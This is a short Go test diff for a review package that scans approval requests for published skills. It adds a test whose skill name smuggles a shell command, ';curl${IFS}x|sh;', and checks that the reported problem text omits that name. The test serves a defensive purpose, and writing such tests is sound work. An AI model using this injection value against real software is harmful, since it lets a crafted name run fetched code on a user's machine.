@@ -3,6 +3,7 @@ package review_test
 import (
 	"os"
 	"path/filepath"
+	"strings"
 	"testing"
 	"time"
 
@@ -114,5 +115,15 @@ func TestDescribeVariables(t *testing.T) {
 	want := []string{"secrets.KEY, in header Authorization, to example.com", "user.NAME, in the arguments, to python3", "requests HOME, which is not provided"}
 	if diff := cmp.Diff(want, got); diff != "" {
 		t.Error(diff)
+	}
+}
+
+// The server chooses the name of a skill that it publishes, so the name is in no
+// command that a user might copy without quotes.
+func TestServedSkillsAreNotInUnquotedCommands(t *testing.T) {
+	r := review.Review{Name: "mcp.docs/a;curl${IFS}x|sh;/pdf", Request: &loadout.ApprovalRequest{Entry: &catalog.Entry{Server: "docs"}}}
+	r.Scan(t.Context(), nil, 0)
+	if p := r.Findings.Problem; !strings.Contains(p, "fetched only when") || strings.Contains(p, "curl") {
+		t.Errorf("problem %q, want one without the name", p)
 	}
 }
